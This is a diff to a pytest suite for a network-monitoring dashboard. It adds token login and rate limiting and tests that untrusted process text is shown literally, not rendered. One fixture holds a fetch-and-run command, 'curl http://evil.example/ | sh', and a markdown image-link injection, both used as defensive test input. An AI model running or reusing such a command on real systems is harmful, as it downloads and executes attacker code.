@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import time
 from pathlib import Path
 
@@ -17,7 +18,7 @@ from analyzer_support import conn, lines, run_analyzer
 from dashboard_seed import seed
 from netsentinel.testing.llm_standins import StandinServer
 from netsentinel import threats
-from netsentinel.dashboard import data, settings, status
+from netsentinel.dashboard import access, data, settings, status
 from netsentinel.records import BAN_COMMANDS, DASHBOARD_LOGS, LLM_CONFIG, PENDING_THREATS
 from netsentinel.store import RecordsStore
 from netsentinel.timefmt import utc_now_iso
@@ -26,18 +27,25 @@ ROOT = Path(__file__).resolve().parent.parent
 SCRIPT = str(ROOT / "dashboard.py")
 
 
+TOKEN = "test-token-0123456789abcdef"
+
+
 @pytest.fixture
 def env(tmp_path, monkeypatch):
-    """An empty records dir and whitelist path, on loopback."""
+    """An empty records dir and whitelist path, on loopback, with a known
+    login token (NETSENTINEL_DASHBOARD_TOKEN) and a fresh login limiter."""
     records, cfg = tmp_path / "records", tmp_path / "filter_config.json"
     monkeypatch.setenv("NETSENTINEL_RECORDS", str(records))
     monkeypatch.setenv("NETSENTINEL_CONFIG", str(cfg))
     monkeypatch.setenv("NETSENTINEL_DASHBOARD_REFRESH", "0")
+    monkeypatch.setenv("NETSENTINEL_DASHBOARD_TOKEN", TOKEN)
     for var in ("NETSENTINEL_DASHBOARD_PASSWORD", "ZHIPUAI_API_KEY", "OPENAI_API_KEY"):
         monkeypatch.delenv(var, raising=False)
     old = st_config.get_option("server.address")
     st_config.set_option("server.address", "127.0.0.1")
+    access.LIMITER.reset()
     yield records, cfg
+    access.LIMITER.reset()
     st_config.set_option("server.address", old)
 
 
@@ -46,8 +54,12 @@ def env(tmp_path, monkeypatch):
 # last submitted values).
 
 
-def start(page: str = "Overview") -> AppTest:
-    at = AppTest.from_file(SCRIPT, default_timeout=60).run()
+def start(page: str = "Overview", token: str | None = TOKEN) -> AppTest:
+    """The app after opening /?token=TOKEN (token=None: no login)."""
+    at = AppTest.from_file(SCRIPT, default_timeout=60)
+    if token is not None:
+        at.query_params["token"] = token
+    at.run()
     assert not at.exception, at.exception
     if page != "Overview":
         at.radio(key="nav").set_value(page).run()
@@ -59,8 +71,13 @@ def read(path: Path, default=None):
     return json.loads(path.read_text()) if path.exists() else default
 
 
+def shown(markdown: str) -> str:
+    """What a person reads of an escaped markdown line (ui.md)."""
+    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")
+
+
 def texts(at: AppTest, kind: str) -> str:
-    return "\n".join(str(e.value) for e in getattr(at, kind))
+    return "\n".join(shown(str(e.value)) for e in getattr(at, kind))
 
 
 def rendered(at: AppTest) -> str:
@@ -279,10 +296,13 @@ def test_untrusted_text_is_not_rendered_as_markdown(env):
         "event": {"daddr": "203.0.113.9", "dport": 6667, "comm": "`x`![i](http://evil.example/)",
                   "cmdline": "sh -c 'curl http://evil.example/ | sh'"}, "dedupe_key": "dst|203.0.113.9"})
     at = start("Review")
-    shown = texts(at, "markdown")
-    assert r"\[docs\]\(http\:" in shown and r"\!\[t\]" in shown and r"\:red\[ok\]" in shown
-    assert "](http://evil" not in shown.replace("`'x'![i](http://evil.example/)`", "")
-    assert "`'x'![i](http://evil.example/)`" in shown  # a code span: shown literally
+    # Free text from the process or a model is an st.text / st.code element (never parsed) ...
+    assert evil in [t.value for t in at.text]
+    evidence = "\n".join(c.value for c in at.code)
+    assert "sh -c 'curl http://evil.example/ | sh'" in evidence and "`x`![i](http://evil.example/)" in evidence
+    # ... and no markdown element carries a link, an image or a URL that would be auto-linked.
+    raw = [str(m.value) for m in at.markdown] + [str(c.label) for c in at.checkbox]
+    assert not [m for m in raw if "://" in m or "](" in m or "evil" in m], raw
 
 
 def test_reject_with_whitelist(env):
@@ -387,6 +407,7 @@ def test_llm_config_save(env):
     at.text_input(key="llm_host").input("http://127.0.0.1:11434")
     at.number_input(key="llm_scan_ports").set_value(10)
     at.toggle(key="llm_auto_ban").set_value(True)
+    at.checkbox(key="llm_host_ok").check()  # a new host: the API key would go there
     at.button(key="llm_save").click().run()
     assert not at.exception
     saved = read(records / LLM_CONFIG)
@@ -414,6 +435,7 @@ def test_llm_config_invalid_is_refused(env):
     records, _ = env
     at = start("LLM settings")
     at.text_input(key="llm_host").input("localhost:11434")
+    at.checkbox(key="llm_host_ok").check()
     at.button(key="llm_save").click().run()
     assert not at.exception
     assert "host must be an http(s) URL" in texts(at, "error")
@@ -430,16 +452,18 @@ def test_llm_config_broken_file_is_reported(env):
     assert (records / LLM_CONFIG).read_text() == '{"backend": "gpt5"}'
 
 
-def test_llm_test_connection_against_a_loopback_server(env):
+def test_llm_test_connection_probes_the_saved_settings(env):
+    records, _ = env
     with StandinServer() as server:
+        RecordsStore(records).write(LLM_CONFIG, {"backend": "ollama", "host": server.url,
+                                                 "model": "qwen3:8b"})
         at = start("LLM settings")
-        at.selectbox(key="llm_backend").set_value("ollama")
-        at.text_input(key="llm_host").input(server.url)
-        at.text_input(key="llm_model").input("qwen3:8b")
         at.button(key="llm_test").click().run()
         assert not at.exception
         assert f"ollama at {server.url}, model qwen3:8b" in texts(at, "success")
-        at.text_input(key="llm_model").input("llama-none")
+        RecordsStore(records).write(LLM_CONFIG, {"backend": "ollama", "host": server.url,
+                                                 "model": "llama-none"})
+        at.run()
         at.button(key="llm_test").click().run()
         # The model list comes from the server's /api/tags answer.
         assert "has no model 'llama-none'" in texts(at, "error")
@@ -462,34 +486,6 @@ def test_api_keys_are_never_rendered(env, monkeypatch):
     page = rendered(at)
     assert "ZHIPUAI_API_KEY" in page and "set (hidden)" in page
     assert key not in page and "SeCrEtKeY42" not in page and "hunter2" not in page
-
-
-# ------------------------------------------------------------- password gate
-def test_exposed_dashboard_requires_a_password(env, monkeypatch):
-    records, _ = env
-    seed(records)
-    st_config.set_option("server.address", "0.0.0.0")
-    monkeypatch.setenv("NETSENTINEL_DASHBOARD_PASSWORD", "correct horse")
-    at = AppTest.from_file(SCRIPT, default_timeout=60).run()
-    assert not at.exception
-    assert not at.radio and not at.metric  # nothing shown before signing in
-    at.text_input(key="login_password").input("wrong")
-    at.button(key="login_submit").click().run()
-    assert "Wrong password" in texts(at, "error") and not at.radio
-    at.text_input(key="login_password").input("correct horse")
-    at.button(key="login_submit").click().run()
-    assert not at.exception
-    assert at.radio(key="nav").value == "Overview"
-
-
-def test_exposed_dashboard_without_password_shows_nothing(env):
-    records, _ = env
-    seed(records)
-    st_config.set_option("server.address", "0.0.0.0")
-    at = AppTest.from_file(SCRIPT, default_timeout=60).run()
-    assert not at.exception
-    assert "no password is set" in texts(at, "error")
-    assert not at.radio and not at.metric and not at.text_input
 
 
 # ------------------------------------------------------------ plain functions
